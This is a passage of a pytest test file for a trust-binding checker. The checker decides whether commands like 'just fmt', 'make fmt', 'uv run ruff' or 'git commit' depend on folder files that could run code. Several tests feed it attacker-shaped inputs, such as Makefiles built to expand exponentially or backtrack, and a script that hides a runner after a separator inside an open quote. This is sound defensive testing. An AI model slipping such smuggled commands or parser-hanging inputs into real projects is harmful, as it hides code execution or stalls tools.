) -> None:
    """`python manage.py check` ran the settings module and every app Django imports by name, and a script's own
    `pytest.main()` ran conftest.py: a pull changing either ran under the trust given to the script (round 27)."""
    (workspace / "tools" / "x.py").write_text(script)
    result = binding("python tools/x.py", workspace)
    assert result.startswith(UNBINDABLE) == unbindable, result


@pytest.mark.parametrize(
    ("justfile", "command", "unbindable"),
    [
        ("lint:\n    pytest -q\n", "just lint", True),
        ("fmt:\n    black .\n", "just fmt", False),
        ("fmt:\n    black .\ntest:\n    pytest\n", "just fmt", True),  # every recipe counts for just
        ('set shell := ["python3", "-c"]\nfmt:\n    print(1)\n', "just fmt", True),
        ("fmt:\n    #!/usr/bin/env python3\n    print(1)\n", "just fmt", True),
        ('runner := "pytest"\nfmt:\n    {{runner}} -q\n', "just fmt", True),
    ],
)
def test_just_binds_a_justfile_whose_recipes_run_nothing_the_folder_chooses(
    workspace: Path, justfile: str, command: str, unbindable: bool
) -> None:
    (workspace / "justfile").write_text(justfile)
    assert binding(command, workspace).startswith(UNBINDABLE) == unbindable, binding(command, workspace)


@pytest.mark.parametrize(("shell", "unbindable"), [("python3", True), ("/bin/bash", False), ("$(PY)", True)])
def test_a_makefile_whose_recipes_run_under_another_program_is_unbindable(
    workspace: Path, shell: str, unbindable: bool
) -> None:
    """`SHELL := python3`: every recipe line is Python code, which the shell reading of recipes can't check."""
    (workspace / "Makefile").write_text(f"SHELL := {shell}\nfmt:\n\techo hi\n")
    assert binding("make fmt", workspace).startswith(UNBINDABLE) == unbindable, binding("make fmt", workspace)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Makefile", "X := $(shell " + " " * 1024 * 1024),
        ("Makefile", "".join(f"V{d} = " + f"$(V{d + 1}) " * 40 + "\n" for d in range(10)) + "fmt:\n\techo $(V0)\n"),
        ("Makefile", "".join(f"V{d} = $(V{d + 1})\n" * 200 for d in range(10)) + "fmt:\n\techo $(V0)\n"),
        ("Makefile", "fmt:\n\techo " + "$(" * 100_000 + "\n"),
        ("justfile", "\n" * 1024 * 1024),
        ("justfile", "fmt:\n    " + "{{" * 500_000 + "\n"),
    ],
)
def test_a_makefile_or_justfile_of_the_attackers_shape_is_read_in_bounded_time(
    workspace: Path, name: str, text: str
) -> None:
    """Variables that expand exponentially, nested or unclosed references, and the shapes that make a pattern
    backtrack: each is read (or found unbindable) at once, never for hours (pytest-timeout is the bound)."""
    (workspace / name).write_text(text)
    binding("make fmt" if name == "Makefile" else "just fmt", workspace)


def test_a_quote_left_open_on_a_line_does_not_hide_the_runner_after_a_separator(workspace: Path) -> None:
    """The scan read a line whose quote closes on the next one by its spaces: `true; pytest '` was one command,
    `true;`, and the pytest that bash runs was never seen (round 27)."""
    import subprocess

    (workspace / "scripts" / "a.sh").write_text("true; touch ran-it '\n'\n")
    subprocess.run(["bash", "scripts/a.sh"], cwd=workspace, check=True, timeout=30)
    assert (workspace / "ran-it").exists(), "the control: bash runs the command after the separator"
    (workspace / "scripts" / "a.sh").write_text("true; pytest '\n'\n")
    result = binding("sh scripts/a.sh", workspace)
    assert result.startswith(UNBINDABLE) and "`pytest`" in result, result


@pytest.mark.parametrize(
    ("command", "files", "unbindable"),
    [
        ("uv run ruff check .", {"pyproject.toml": "[project]\nname = 'x'\n"}, False),
        ("uv sync", {"pyproject.toml": "[project]\nname = 'x'\n"}, False),
        ("poetry run black .", {"pyproject.toml": "[tool.poetry]\n"}, False),
        ("uv run ruff check .", {"pyproject.toml": "[tool.uv.sources]\nfoo = { path = 'libs/foo' }\n"}, True),
        ("uv run ruff check .", {"pyproject.toml": "[build-system]\nbackend-path = ['.']\n"}, True),
        ("uv run ruff check .", {"pyproject.toml": "[tool.uv]\ncache-keys = [{ file = 'src/**' }]\n"}, True),
        ("uv run ruff check .", {"pyproject.toml": "[tool.uv.workspace]\nmembers = ['pkgs/*']\n"}, True),
        ("uv run ruff check .", {"pyproject.toml": "[project]\n", "setup.py": "from setuptools import setup\n"}, True),
        ("uv run --directory sub ruff check .", {"pyproject.toml": "[project]\n"}, True),
        ("uv build", {"pyproject.toml": "[project]\n"}, True),
        ("uv pip install -e .", {"pyproject.toml": "[project]\n"}, True),
        ("poetry install", {"pyproject.toml": "[tool.poetry]\n"}, True),
        ("pdm sync", {"pyproject.toml": "[project]\n"}, True),
        ("pipenv install", {"Pipfile": ""}, True),
    ],
)
def test_a_python_package_manager_is_bound_to_what_makes_it_build_the_project(
    workspace: Path, command: str, files: dict[str, str], unbindable: bool
) -> None:
    """`uv run ruff` builds the project again when pyproject.toml, setup.py or setup.cfg change, with the build
    code then in the folder (an in-tree backend, setup.py): they were not bound, so a pull changing them ran its
    build code under the trust (round 27). They are bound now; what builds from files they name (path and
    workspace sources, `cache-keys`, `backend-path`), and the subcommands that build and install every time
    (`poetry install`, `uv build`…), are unbindable."""
    for name, text in files.items():
        (workspace / name).write_text(text)
    result = binding(command, workspace)
    assert result.startswith(UNBINDABLE) == unbindable, result
    if not unbindable:
        assert next(iter(files)) in bound_paths(result)


@pytest.mark.parametrize(
    ("script", "unbindable"),
    [
        ("import subprocess\nsubprocess.run(['pytest', '-q'])\n", True),
        ("import os\nos.system('npx jest')\n", True),
        ("print('next step: go')\n", False),  # a runner's name in text a script starts no process with
        ("import subprocess\nsubprocess.run(['ruff', 'check', '.'])\n", False),
    ],
)
def test_a_script_that_starts_a_runner_it_names_in_a_string_is_unbindable(
    workspace: Path, script: str, unbindable: bool
) -> None:
    """`subprocess.run(["pytest"])` in a bound script ran conftest.py, which nothing bound (round 27's verification)."""
    (workspace / "tools" / "x.py").write_text(script)
    result = binding("python tools/x.py", workspace)
    assert result.startswith(UNBINDABLE) == unbindable, result


def test_where_git_takes_its_hooks_from_is_read_again_when_its_settings_change(tmp_path: Path) -> None:
    """`core.hooksPath` is asked of git once per state of its settings files: a change to the repository's settings,
    or to a file they include (never cached), is seen at the next reading."""
    import subprocess

    ws = tmp_path / "ws"
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    for name in ("a", "b"):
        (ws / name).mkdir()
        (ws / name / "pre-commit").write_text(f"#!/bin/sh\necho {name}\n")
    assert "git hooks:-" in binding("git commit -m x", ws)
    subprocess.run(["git", "-C", str(ws), "config", "core.hooksPath", "a"], check=True)
    assert "a/ git hooks:pre-commit" in binding("git commit -m x", ws)
    (ws / ".gitconfig").write_text("[core]\n\thooksPath = b\n")
    subprocess.run(["git", "-C", str(ws), "config", "--unset", "core.hooksPath"], check=True)
    subprocess.run(["git", "-C", str(ws), "config", "include.path", "../.gitconfig"], check=True)
    assert "b/ git hooks:pre-commit" in binding("git commit -m x", ws)
    (ws / ".gitconfig").write_text("[core]\n\thooksPath = a\n")  # the included file alone changes
    assert "a/ git hooks:pre-commit" in binding("git commit -m x", ws)
